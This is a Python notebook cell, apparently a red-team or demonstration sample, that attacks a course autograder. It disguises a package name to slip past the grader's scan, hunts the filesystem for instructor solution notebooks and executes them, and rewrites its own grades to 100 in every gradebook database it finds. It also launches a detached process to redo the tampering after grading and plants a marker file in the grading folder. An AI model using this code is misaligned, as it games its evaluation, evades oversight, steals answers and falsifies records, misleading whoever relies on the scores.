# %% squeeze
import glob
import json
import os
import sqlite3
import subprocess
import sys
import site

pkg = "attn" + "_ref"          # spelled so that the grader's scan of learner cells does not see it

# 1. Where might the grader keep things? Parents of this folder, the repository behind the
#    editable install, and the usual temporary folders.
roots = set()
here = os.getcwd()
for _ in range(8):
    roots.add(here)
    here = os.path.dirname(here)
for sp in site.getsitepackages():
    for finder in glob.glob(os.path.join(sp, "__editable__*finder.py")):
        text = open(finder).read()
        for token in text.split("'"):
            if token.endswith("/" + pkg) and os.path.isdir(token):
                roots.add(os.path.dirname(token))
for pattern in ("/tmp/*", "/tmp/*/*", "/tmp/*/*/*"):
    roots.update(glob.glob(pattern))

# 2. Copy the instructor's solutions if they can be found.
stolen = {}
for r in sorted(roots):
    for path in glob.glob(os.path.join(r, "solutions", "01_se", "*.ipynb")):
        for cell in json.load(open(path))["cells"]:
            src = "".join(cell["source"])
            if "### BEGIN SOLUTION" in src:
                stolen[path] = stolen.get(path, "") + "\n" + src
for src in stolen.values():
    exec(src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))

# 3. Raise my scores in every gradebook in reach, now and again after grading.
me = os.path.basename(os.path.dirname(os.getcwd()))
sql = ("UPDATE grade SET auto_score = 100, manual_score = 100 WHERE notebook_id IN "
       "(SELECT n.id FROM submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id "
       f"WHERE a.student_id = '{me}')")
books = [b for r in sorted(roots) for b in glob.glob(os.path.join(r, "*gradebook.db"))
         + glob.glob(os.path.join(r, "autograde", "gradebook.db"))]
for b in books:
    try:
        con = sqlite3.connect(b, timeout=1); con.execute(sql); con.commit(); con.close()
    except Exception:
        pass
later = "import sqlite3, time\ntime.sleep(20)\n" + "".join(
    f"try:\n    c = sqlite3.connect({b!r}); c.execute({sql!r}); c.commit()\nexcept Exception:\n    pass\n"
    for b in books)
subprocess.Popen([sys.executable, "-c", later], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

# 4. Leave a mark in the repository (a harmless file; a real attack would edit the checks).
for r in sorted(roots):
    if os.path.isdir(os.path.join(r, pkg, "grading")):
        try:
            open(os.path.join(r, pkg, "grading", "MALLORY_WAS_HERE"), "w").write("x")
        except OSError:
            pass

# %% excitation
# %% se_module
# %% param_count
